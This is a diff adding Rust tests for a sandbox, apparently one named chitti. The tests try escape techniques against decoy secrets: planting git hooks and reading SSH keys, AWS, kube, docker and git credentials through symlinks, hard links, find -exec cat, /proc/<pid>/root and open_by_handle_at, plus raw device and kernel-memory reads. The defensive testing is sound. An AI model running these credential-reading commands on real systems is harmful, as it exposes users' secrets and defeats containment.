+    let technique = "rm -rf .git and recreate it with hooks";
+    if exists(&fx.ws(".git")) {
+        assert_eq!(
+            tree(&fx.ws(".git/hooks")),
+            before.hooks,
+            "ESCAPE ({technique}): .git/hooks differs on the host\n{ran}"
+        );
+        assert_same_contents(&fx.ws(".git/config"), &before.config, technique, &ran);
+    }
+    let planted = files_containing(&fx.ws(".git"), "PWNED-HOOK");
+    assert!(
+        planted.is_empty(),
+        "ESCAPE ({technique}): planted hook or config in the host's .git: {planted:?}\n{ran}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+// Reading credentials
+// ---------------------------------------------------------------------------------------
+
+/// Tries to read one decoy credential several ways; the non-secret ~/notes.txt is read
+/// too, as proof that reads work at all.
+fn read_credential(backend: &str, rel: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    let path = decoys.path(rel);
+    let dir = path.parent().unwrap();
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "cat {p}; head -c 4096 {p}; cat ~/{rel}; {py} -c 'import sys; print(open(sys.argv[1]).read())' {p}; \
+         grep -r . {d}; cat ~/notes.txt",
+        p = sh_quote(&path),
+        d = sh_quote(dir),
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    assert!(
+        ran.stdout_str().contains(&decoys.note),
+        "control: ~/notes.txt (not a credential) must stay readable\n{ran}"
+    );
+    assert_no_secret(&decoys.secret, &format!("read ~/{rel}"), &ran);
+}
+
+#[backends]
+fn escape_read_ssh_private_key(backend: &str) {
+    read_credential(backend, ".ssh/id_rsa");
+}
+
+#[backends]
+fn escape_read_aws_credentials(backend: &str) {
+    read_credential(backend, ".aws/credentials");
+}
+
+#[backends]
+fn escape_read_netrc(backend: &str) {
+    read_credential(backend, ".netrc");
+}
+
+#[backends]
+fn escape_read_gh_hosts_yml(backend: &str) {
+    read_credential(backend, ".config/gh/hosts.yml");
+}
+
+#[backends]
+fn escape_read_cargo_credentials(backend: &str) {
+    read_credential(backend, ".cargo/credentials.toml");
+    read_credential(backend, ".cargo/credentials");
+}
+
+#[backends]
+fn escape_read_chitti_config(backend: &str) {
+    read_credential(backend, ".config/chitti/config.toml");
+}
+
+#[backends]
+fn escape_read_docker_config(backend: &str) {
+    read_credential(backend, ".docker/config.json");
+}
+
+#[backends]
+fn escape_read_kube_config(backend: &str) {
+    read_credential(backend, ".kube/config");
+}
+
+#[backends]
+fn escape_read_gnupg_private_key(backend: &str) {
+    read_credential(backend, ".gnupg/private-keys-v1.d/decoy.key");
+}
+
+#[backends]
+fn escape_read_git_credentials(backend: &str) {
+    read_credential(backend, ".git-credentials");
+}
+
+#[backends]
+fn escape_read_credentials_via_symlink_in_workspace(backend: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    std::os::unix::fs::symlink(decoys.path(".ssh/id_rsa"), fx.ws("key-link")).unwrap();
+    std::os::unix::fs::symlink(decoys.path(".aws"), fx.ws("aws-link")).unwrap();
+    std::os::unix::fs::symlink(&fx.home, fx.ws("home-link")).unwrap();
+    let ran = fx.chitti(backend).sh(&probe(
+        "cat key-link; cat aws-link/credentials; cat home-link/.netrc; cat home-link/.ssh/id_rsa; \
+         cat home-link/notes.txt",
+    ));
+    ran.assert_probe_ran();
+    assert!(
+        ran.stdout_str().contains(&decoys.note),
+        "control read failed\n{ran}"
+    );
+    assert_no_secret(
+        &decoys.secret,
+        "read a credential through a symlink in the workspace",
+        &ran,
+    );
+}
+
+#[backends]
+fn escape_read_credentials_via_symlink_created_at_runtime(backend: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    let ran = fx.chitti(backend).sh(&probe(
+        "ln -s ~/.ssh/id_rsa k; cat k; ln -s ~/.ssh s; cat s/id_ed25519; ln -s ~ h; cat h/.kube/config; \
+         cp -L k copied-key; cat copied-key",
+    ));
+    ran.assert_probe_ran();
+    assert_no_secret(
+        &decoys.secret,
+        "read a credential through a runtime symlink",
+        &ran,
+    );
+    let copies = files_containing(&fx.ws, &decoys.secret);
+    assert!(
+        copies.is_empty(),
+        "ESCAPE (copy a credential into the workspace): {copies:?}\n{ran}"
+    );
+}
+
+#[backends]
+fn escape_read_credentials_via_hardlink_created_at_runtime(backend: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    let ran = fx.chitti(backend).sh(&probe(
+        "ln ~/.ssh/id_rsa hard-key; cat hard-key; ln ~/.netrc hard-netrc; cat hard-netrc",
+    ));
+    ran.assert_probe_ran();
+    assert_no_secret(
+        &decoys.secret,
+        "read a credential through a runtime hard link",
+        &ran,
+    );
+    let copies = files_containing(&fx.ws, &decoys.secret);
+    assert!(
+        copies.is_empty(),
+        "ESCAPE (hard link a credential into the workspace): {copies:?}\n{ran}"
+    );
+}
+
+#[backends]
+fn escape_read_credentials_via_copy_into_workspace(backend: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    let ran = fx.chitti(backend).sh(&probe(
+        "cp -r ~/.ssh ssh-copy; cp ~/.aws/credentials aws-copy; tar cf home.tar -C ~ . ; \
+         cat ~/.netrc > netrc-copy; dd if=$HOME/.kube/config of=kube-copy",
+    ));
+    ran.assert_probe_ran();
+    let copies = files_containing(&fx.ws, &decoys.secret);
+    assert!(
+        copies.is_empty(),
+        "ESCAPE (copy credentials into the workspace): the host finds the secret in {copies:?}\n{ran}"
+    );
+    assert_no_secret(&decoys.secret, "copy credentials into the workspace", &ran);
+}
+
+#[backends]
+fn escape_read_credentials_via_find_exec_cat(backend: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    let ran = fx.chitti(backend).sh(&probe(
+        "find ~ -type f -exec cat {} + 2>/dev/null; find ~ -name 'id_*' -exec cat {} \\; ; \
+         find / -xdev -path '*/.ssh/*' -name id_rsa -exec cat {} \\; 2>/dev/null",
+    ));
+    ran.assert_probe_ran();
+    assert!(
+        ran.stdout_str().contains(&decoys.note),
+        "control: find ~ must still reach ~/notes.txt\n{ran}"
+    );
+    assert_no_secret(&decoys.secret, "find ~ -exec cat", &ran);
+}
+
+#[backends]
+fn escape_read_credentials_via_python_os_walk(backend: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    let script = probe_py(
+        r#"
+import os
+for root, dirs, files in os.walk(os.path.expanduser("~"), followlinks=True):
+    for name in files:
+        p = os.path.join(root, name)
+        try:
+            print(p, open(p, errors="replace").read())
+        except OSError as e:
+            print(p, "denied:", e)
+"#,
+    );
+    let ran = fx.chitti(backend).py(&script, &[]);
+    ran.assert_probe_ran();
+    assert!(
+        ran.stdout_str().contains(&decoys.note),
+        "control: os.walk must reach ~/notes.txt\n{ran}"
+    );
+    assert_no_secret(&decoys.secret, "python os.walk(~)", &ran);
+}
+
+/// Through /proc/<pid>/root of a host process, and /proc/self/root.
+#[backends]
+fn escape_read_credentials_via_proc_pid_root(backend: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    let host = HostProcess::sleep();
+    let key = decoys.path(".ssh/id_rsa");
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "cat /proc/{pid}/root{k}; cat /proc/self/root{k}; cat /proc/1/root{k}; cat /proc/{pid}/cwd/{k}",
+        pid = host.pid,
+        k = key.display(),
+    )));
+    ran.assert_probe_ran();
+    assert_no_secret(
+        &decoys.secret,
+        "read a credential through /proc/<pid>/root",
+        &ran,
+    );
+}
+
+/// name_to_handle_at + open_by_handle_at bypass path checks.
+#[backends]
+fn escape_read_credentials_via_open_by_handle_at(backend: &str) {
+    let fx = Fixture::new();
+    let decoys = fx.decoys();
+    let script = probe_py(&py_syscalls(
+        r#"
+import ctypes
+path = sys.argv[1].encode()
+class FH(ctypes.Structure):
+    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
+fh = FH(); fh.bytes = 128
+mnt = ctypes.c_int(0)
+r, e = call(303, -100, path, ctypes.byref(fh), ctypes.byref(mnt), 0)
+print("name_to_handle_at", r, e)
+mfd = os.open("/", os.O_RDONLY)
+r, e = call(304, mfd, ctypes.byref(fh), os.O_RDONLY)
+print("open_by_handle_at", r, e)
+if r >= 0:
+    print(os.read(r, 4096))
+"#,
+    ));
+    let key = decoys.path(".ssh/id_rsa").display().to_string();
+    let ran = fx.chitti(backend).py(&script, &[&key]);
+    ran.assert_probe_ran();
+    assert_no_secret(&decoys.secret, "open_by_handle_at on a credential", &ran);
+}
+
+// ---------------------------------------------------------------------------------------
+// Devices and kernel memory
+// ---------------------------------------------------------------------------------------
+
+/// Raw block devices (found with `ls /dev` on the host), /dev/mem, /dev/kmem, /dev/port
+/// and /proc/kcore: the sandbox reports how many bytes it read from each.
+#[backends]
+fn escape_read_raw_block_devices_and_kernel_memory(backend: &str) {
+    use std::os::unix::fs::FileTypeExt;
+    let fx = Fixture::new();
+    let mut targets: Vec<String> = Vec::new();
+    for entry in std::fs::read_dir("/dev").expect("list /dev").flatten() {
+        if entry
+            .file_type()
+            .map(|t| t.is_block_device())
+            .unwrap_or(false)
+        {
+            targets.push(entry.path().display().to_string());
+        }
+    }
+    for special in ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"] {
+        if Path::new(special).exists() {
+            targets.push(special.to_string());
+        }
+    }
+    assert!(
+        !targets.is_empty(),
+        "this machine has no block device, /dev/mem or /proc/kcore to probe"
+    );
+    let script = probe_py(
+        r#"
+import sys
+for dev in sys.argv[1:]:
+    try:
+        with open(dev, "rb") as f:
+            data = f.read(4096)
+        print("READ", dev, len(data))
+    except OSError as e:
+        print("denied", dev, e)
+"#,
+    );
+    let args: Vec<&str> = targets.iter().map(String::as_str).collect();
+    let ran = fx.chitti(backend).py(&script, &args);
+    ran.assert_probe_ran();
+    let read: Vec<String> = ran
+        .stdout_str()
+        .lines()
+        .filter(|l| l.starts_with("READ ") && !l.ends_with(" 0"))
+        .map(str::to_string)
+        .collect();
+    assert!(
+        read.is_empty(),
+        "ESCAPE (read raw devices / kernel memory): {read:?}\n{ran}"
+    );
+}
+
+/// A Python probe: `body` then `print("PROBE-DONE")`.
+fn probe_py(body: &str) -> String {
+    format!("{body}\nprint({DONE:?})\n")
+}
